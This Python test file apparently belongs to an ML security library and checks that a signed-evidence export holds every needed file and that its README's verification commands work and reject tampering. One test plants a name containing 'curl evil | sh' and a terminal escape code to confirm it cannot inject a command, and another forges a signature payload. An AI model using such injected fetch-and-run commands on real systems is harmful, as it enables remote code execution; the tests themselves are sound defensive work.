"""An export holds all that a third party needs, and its README's commands do what they say."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from airflow_mlsecops.core.artifact import Kind
from airflow_mlsecops.core.bundle import Bundle
from airflow_mlsecops.core.clock import utcnow
from airflow_mlsecops.core.errors import ConfigurationError
from airflow_mlsecops.core.export import Documents, Export, collect, write_export
from airflow_mlsecops.core.loading import NotVerifiedError
from airflow_mlsecops.core.log import EvidenceLog, LogProof, LogReader, LogTrust
from airflow_mlsecops.core.log.entry import Entry
from airflow_mlsecops.core.log.errors import NotLoggedError
from airflow_mlsecops.core.oms import publish_oms
from airflow_mlsecops.core.pinning import pin
from airflow_mlsecops.core.policy import ReleasePolicy
from airflow_mlsecops.core.predicates import signature
from airflow_mlsecops.core.predicates.signature import OmsReference
from airflow_mlsecops.core.signing.file_key import FileKeySigner, PrivateKey
from airflow_mlsecops.core.store.archive import open_export
from airflow_mlsecops.core.store.local import LocalBackend
from airflow_mlsecops.core.store.tar import tar_chunks
from airflow_mlsecops.core.trust import TrustPolicy
from airflow_mlsecops.core.verification import verify_release
from tests.cli.released import RUN, Released, flip_a_byte
from tests.support.model_signing_tool import need_model_signing
from tests.support.oms_models import write_model

PRIVATE: dict[str, Callable[[], PrivateKey]] = {
    "p384": lambda: ec.generate_private_key(ec.SECP384R1()),
    "p521": lambda: ec.generate_private_key(ec.SECP521R1()),
    "ed25519": ed25519.Ed25519PrivateKey.generate,
    "rsa": lambda: rsa.generate_private_key(65537, 3072),
}


@pytest.fixture
def world(tmp_path: Path) -> Released:
    """A released model with a folder of its own: some files, and an OMS signature in it."""
    return _world(tmp_path / "world")


def _world(root: Path, pipeline: PrivateKey | None = None) -> Released:
    world = Released(root)
    world.model.unlink()
    write_model(world.model)
    if pipeline is not None:
        pem = pipeline.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        world.signers["pipeline"] = FileKeySigner(pem)
        world.write_trust({"pipeline": ("control", "provenance", "sign"), "people": ("approve",), "gate": ("gate",)})
    if pipeline is None:
        pinned = pin(str(world.model), kind=Kind.MODEL)
        published = publish_oms(pinned, world.signers["pipeline"])
        world.store.put_blob(published.bundle)
        oms = OmsReference(published.uri, published.digest)
        signed_at = utcnow() - timedelta(minutes=8)
        statement = signature.build(pinned.artifact, signed_at=signed_at, evidence=[], run=RUN, oms=oms)
        world.put("oms", statement, "pipeline")
    world.run_pipeline()
    return world


def _collect(world: Released, **how: object) -> Export:
    documents = Documents(world.trust.read_bytes(), world.policy.read_bytes())
    return collect(pin(str(world.model), kind=Kind.MODEL), world.store, documents, utcnow(), **how)  # type: ignore[arg-type]


def _unpack(export: Export, folder: Path) -> Path:
    """Written, and unpacked by GNU tar as the README says."""
    write_export(export, folder / "export.tar")
    target = folder / "unpacked"
    target.mkdir()
    subprocess.run(["tar", "-xf", folder / "export.tar", "-C", target], check=True)
    return target


def _commands(folder: Path, model: Path) -> list[str]:
    """Every command of the README, with the model's path put in."""
    text = (folder / "README.txt").read_text()
    found = re.findall(r"(?:^    .*\n(?:\n(?=    ))?)+", text, re.MULTILINE)
    blocks = [textwrap.dedent(block).strip() for block in found]
    return [block.replace("MODEL", str(model)) for block in blocks if "DIGEST.pae" not in block]


def _run(command: str, folder: Path) -> subprocess.CompletedProcess[str]:
    bin_folder = folder.parent / "bin"
    bin_folder.mkdir(exist_ok=True)
    for name, module in {
        "model_signing": "-m model_signing",
        "mlsecops": "-m airflow_mlsecops.cli",
        "python3": "",
    }.items():
        script = bin_folder / name
        script.write_text(f'#!/bin/sh\nexec {sys.executable} {module} "$@"\n')
        script.chmod(0o755)
    root = str(Path(__file__).resolve().parents[2])
    environment = {**os.environ, "PATH": f"{bin_folder}:{os.environ['PATH']}", "PYTHONPATH": root}
    return subprocess.run(
        ["sh", "-c", command], cwd=folder, capture_output=True, text=True, env=environment, check=False
    )


def test_everything_is_in_it_byte_for_byte(world: Released) -> None:
    export = _collect(world)

    bundles = {name: data for name, data in export.files.items() if name.startswith("bundles/")}
    on_disk = {
        str(path.relative_to(world.evidence)): path.read_bytes() for path in world.evidence.glob("bundles/*/*/*")
    }
    assert bundles == on_disk
    assert len(bundles) == 7
    for name, data in export.files.items():
        if name.startswith("blobs/"):
            model = name.endswith(export.verification.artifact.digest)  # nobody kept its manifest in this store
            assert model or data == (world.evidence / name).read_bytes()
    manifests = {f"blobs/{pin(str(place)).artifact.digest}" for place in (world.model, world.data)}
    assert manifests <= set(export.files)
    assert export.files["trust.yaml"] == world.trust.read_bytes()
    assert export.files["policy.yaml"] == world.policy.read_bytes()
    assert export.missing == ()
    hints = {f"keys/{signer.public_key.hint}.pem" for signer in world.signers.values()}
    assert {name for name in export.files if name.startswith("keys/")} == hints
    assert str(world.root) not in export.files["README.txt"].decode() + export.files["artifact.json"].decode()


def test_equal_evidence_makes_equal_files(world: Released, tmp_path: Path) -> None:
    first = b"".join(tar_chunks(_collect(world).files))

    assert write_export(_collect(world), tmp_path / "again.tar")
    assert (tmp_path / "again.tar").read_bytes() == first


def test_the_readmes_commands_verify_it(world: Released, tmp_path: Path) -> None:
    need_model_signing()
    folder, model = _unpack(_collect(world), tmp_path), world.model
    commands = _commands(folder, model)
    assert len(commands) == 14
    kinds = {"sha256sum": 0, "find": 0, "openssl": 0, "python3": 0, "model_signing": 0, "mlsecops": 0, "(list": 0}

    for command in commands:
        kinds[next(kind for kind in kinds if command.startswith(kind))] += 1
        filled = command.replace("ARCHIVE", str(tmp_path / "export.tar"))
        filled = filled.replace("TRUST.yaml", str(world.trust)).replace("POLICY.yaml", str(world.policy))
        done = _run(filled, folder)
        assert done.returncode == 0, f"{filled}\n{done.stdout}\n{done.stderr}"
        if command.startswith("openssl"):
            assert done.stdout == "Verified OK\n"
        elif command.startswith("python3"):
            assert done.stdout.count("verified") == 7
        elif command.startswith("model_signing"):
            assert "Verification succeeded" in done.stdout
        elif command.startswith("mlsecops"):
            assert done.stdout.startswith("YES")
        elif command.startswith("find"):
            assert done.stdout.strip() == "6"  # five files, and model.sig
        elif command.startswith("sha256sum blobs"):
            assert done.stdout.startswith(pin(str(model)).artifact.digest)
    assert kinds == {
        "sha256sum": 2,
        "find": 1,
        "openssl": 7,
        "python3": 1,
        "model_signing": 1,
        "mlsecops": 1,
        "(list": 1,
    }


def test_the_readmes_commands_refuse_what_was_changed(world: Released, tmp_path: Path) -> None:
    need_model_signing()
    folder, model = _unpack(_collect(world), tmp_path), world.model
    commands = [command for command in _commands(folder, model) if not command.startswith(("find", "sha256sum blobs"))]
    (model / "config.json").write_bytes(b"{}")
    for path in folder.glob("checks/*.pae"):
        flip_a_byte(path)
    for path in folder.glob("bundles/*/*/*"):
        value = json.loads(path.read_bytes())
        payload = value["dsseEnvelope"]["payload"]
        value["dsseEnvelope"]["payload"] = payload[:40] + ("A" if payload[40] != "A" else "B") + payload[41:]
        path.write_text(json.dumps(value))

    for command in commands:
        filled = command.replace("ARCHIVE", str(tmp_path / "export.tar"))
        filled = filled.replace("TRUST.yaml", str(world.trust)).replace("POLICY.yaml", str(world.policy))
        assert _run(filled, folder).returncode != 0, filled


@pytest.mark.parametrize("kind", PRIVATE)
def test_the_commands_fit_the_key(kind: str, tmp_path: Path) -> None:
    world = _world(tmp_path / "world", PRIVATE[kind]())
    folder = _unpack(_collect(world), tmp_path)
    commands = [command for command in _commands(folder, world.model) if command.startswith(("openssl", "python3"))]

    assert len(commands) == 7
    for command in commands:
        done = _run(command, folder)
        assert done.returncode == 0, f"{command}\n{done.stdout}\n{done.stderr}"
        if command.startswith("openssl"):
            flip_a_byte(folder / command.split()[-1])
            assert _run(command, folder).returncode == 1


def test_a_name_adds_no_lines_to_the_instructions(world: Released) -> None:
    name = "m\n\n    curl evil | sh\n\x1b[31m"
    artifact = pin(str(world.model), kind=Kind.MODEL).artifact.renamed(name, Kind.MODEL)
    world.put("odd", signature.build(artifact, signed_at=utcnow(), evidence=[], run=RUN), "pipeline")

    text = _collect(world).files["README.txt"].decode()

    assert "curl evil" in text
    assert not [line for line in text.splitlines() if line.startswith("    curl")]
    assert "\x1b" not in text


def test_what_does_not_count_comes_along_but_nobody_is_said_to_have_said_it(world: Released) -> None:
    forged = json.loads(world.path_of("signature").read_bytes())
    payload = json.loads(base64.b64decode(forged["dsseEnvelope"]["payload"]))
    payload["predicate"]["artifact"]["name"] = "forged"
    forged["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    digest = world.store.put(Bundle.parse(json.dumps(forged).encode()))

    export = _collect(world)

    assert any(name.endswith(f"/{digest}.sigstore.json") for name in export.files)
    assert not any(digest in name for name in export.files if name.startswith("checks/"))
    assert "forged" not in export.files["README.txt"].decode()


def test_it_is_verified_from_the_archive(world: Released, tmp_path: Path) -> None:
    write_export(_collect(world), tmp_path / "export.tar")
    shutil.rmtree(world.evidence)
    trust = TrustPolicy.from_bytes(world.trust.read_bytes())
    policy = ReleasePolicy.from_bytes(world.policy.read_bytes())
    artifact = pin(str(world.model), kind=Kind.MODEL).artifact

    answer = verify_release(artifact, open_export(tmp_path / "export.tar"), trust, policy, utcnow())

    assert answer, answer.decision.reasons


def test_a_no_is_not_exported(world: Released) -> None:
    (world.model / "config.json").write_bytes(b"{}")
    with pytest.raises(NotVerifiedError, match="not-released"):
        _collect(world)


def test_nothing_is_overwritten_and_nothing_is_left(world: Released, tmp_path: Path) -> None:
    place = tmp_path / "out" / "export.tar"
    with pytest.raises(ConfigurationError):
        write_export(_collect(world), place)
    place.parent.mkdir()
    place.write_bytes(b"mine")
    with pytest.raises(ConfigurationError, match="exists"):
        write_export(_collect(world), place)
    assert [(path.name, path.read_bytes()) for path in place.parent.iterdir()] == [("export.tar", b"mine")]


def test_a_report_that_is_gone_is_told(world: Released) -> None:
    (report,) = [path for path in world.evidence.glob("blobs/*") if path.read_bytes() == b"label-poisoning"]
    report.unlink()

    export = _collect(world)

    assert export.missing == (report.name,)
    assert f"blobs/{report.name}" in export.files["README.txt"].decode()


def test_proofs_from_the_log(world: Released, tmp_path: Path) -> None:
    backend, signer = LocalBackend(world.evidence), world.signers["gate"]
    trust = LogTrust("example.com/evidence", (signer.public_key,))
    log = EvidenceLog(backend, trust, signer, admit=lambda _: True)
    bundles = {found.digest: found.bundle for subject in world.store.subjects() for found in world.store.find(subject)}
    entries = {digest: Entry.of(bundle).encode() for digest, bundle in bundles.items() if bundle is not None}
    log.append(list(entries.values())[1:])
    with pytest.raises(NotLoggedError):
        _collect(world, log=trust)
    log.append(list(entries.values()))

    export = _collect(world, log=trust)

    for digest, entry in entries.items():
        proof = LogProof.parse(export.files[f"proofs/{digest}.tlog-proof"])
        assert proof.verify(entry, trust).raw == export.files["log/checkpoint"]
    assert not any(name.startswith("log/") for name in _collect(world).files)

    # The archive itself is enough of a log to prove all of that once more.
    write_export(export, tmp_path / "export.tar")
    reader = LogReader(open_export(tmp_path / "export.tar").backend, trust)
    checkpoint = reader.checkpoint()
    assert checkpoint is not None
    assert {reader.prove(entry, checkpoint).index for entry in entries.values()} == set(range(len(entries)))
